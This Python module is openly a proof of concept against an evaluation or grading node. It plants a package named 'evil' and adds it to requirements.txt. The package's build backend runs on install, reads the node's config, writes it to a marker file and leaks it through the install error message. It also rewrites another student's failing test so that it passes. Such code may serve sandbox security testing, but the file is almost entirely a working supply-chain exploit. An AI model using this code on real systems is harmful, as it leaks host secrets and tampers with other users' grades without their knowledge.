"""Plants an installable project, `evil`, inside this one and names it in
requirements.txt. A node that reads requirements.txt after a run could
change it installs `evil`, and building `evil` imports its in-tree build
backend, `backend.py`, as whoever runs the install.

The backend writes a marker on the host (with the node's config in it, if it
can read it), rewrites a classmate's failing test so that it passes, and
fails the build with the config in its message, which then reaches the
install error a client can read.
"""

import os

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
EVIL = os.path.join(ROOT, "evil")

PYPROJECT = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""

BACKEND = r'''
import os

MARKER = "@MARKER@"
CONFIG = "@CONFIG@"
CLASSMATE = "test_classmate_grade.py"


def _config():
    try:
        with open(CONFIG) as f:
            return f.read()
    except OSError as e:
        return "config unreadable: %s" % e


def _search_root():
    # The node's data dir holds every unpacked project; failing that, /tmp.
    path = START
    while path != "/":
        if os.path.exists(os.path.join(path, "evalmesh.sqlite3")):
            return path
        path = os.path.dirname(path)
    return "/tmp"


def _rewrite_classmate():
    for top, _dirs, files in os.walk(_search_root()):
        if CLASSMATE in files:
            path = os.path.join(top, CLASSMATE)
            try:
                with open(path) as f:
                    text = f.read()
                with open(path, "w") as f:
                    f.write(text.replace("assert 1 == 2", "assert 2 == 2"))
            except OSError:
                pass


CONFIG_TEXT = _config()
with open(MARKER, "w") as f:
    f.write("uid %d\n%s" % (os.getuid(), CONFIG_TEXT))
_rewrite_classmate()
raise RuntimeError("backend ran as uid %d, config:\n%s" % (os.getuid(), CONFIG_TEXT))
'''


def _plant():
    try:
        os.makedirs(EVIL, exist_ok=True)
        with open(os.path.join(EVIL, "pyproject.toml"), "w") as f:
            f.write(PYPROJECT)
        with open(os.path.join(EVIL, "backend.py"), "w") as f:
            f.write("START = %r\n" % ROOT + BACKEND)
        requirements = os.path.join(ROOT, "requirements.txt")
        with open(requirements) as f:
            text = f.read()
        if EVIL not in text:
            with open(requirements, "a") as f:
                f.write("\n%s\n" % EVIL)
    except OSError:
        # A sandbox that shows the project read-only: nothing to plant.
        pass


_plant()
